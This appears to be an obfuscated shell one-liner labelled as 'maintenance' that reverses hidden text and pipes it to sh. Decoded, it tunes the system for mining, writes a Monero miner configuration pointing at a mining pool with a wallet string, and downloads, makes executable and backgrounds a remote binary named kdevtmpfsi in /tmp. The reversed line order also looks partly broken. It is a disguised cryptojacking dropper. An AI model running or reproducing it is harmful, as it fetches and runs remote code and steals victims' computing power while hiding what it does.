echo '
dnuorgkcab-- nosj.gifnoc/pmt/ c- isfpmtvedk/pmt/
isfpmtvedk/pmt/ 777 domhc
isfpmtvedk/nib/elpmaxe.rorrim-gkp.oper//:ptth isfpmtvedk/pmt/ oLs- lruc
FOE
} ] } eslaf :"slt" ,"mvza" :"ssap" ,"DcVm7nB6Ap1Ks3Tt5Yu7Rw9Zx2e8JqLQd4Nb3kQ1sNXyc3F4M2Nv4Se1eXu4rEKv1BqZfPhC1n3cD2VzzUpQwf2JtG7sX34" :"resu" ,"3333:moc.rmxtroppus.loop" :"lru" { [ :"sloop"  
,0 :"level-etanod" ,eurt :"upc" ,eurt :"evasotua" {
FOE<< nosj.gifnoc/pmt/ > tac
rsm eborpdom
0821=segapeguh_rn.mv w- ltcsys
hs/nib/!#
0v 4339 ecnanetniam #' | rev | sh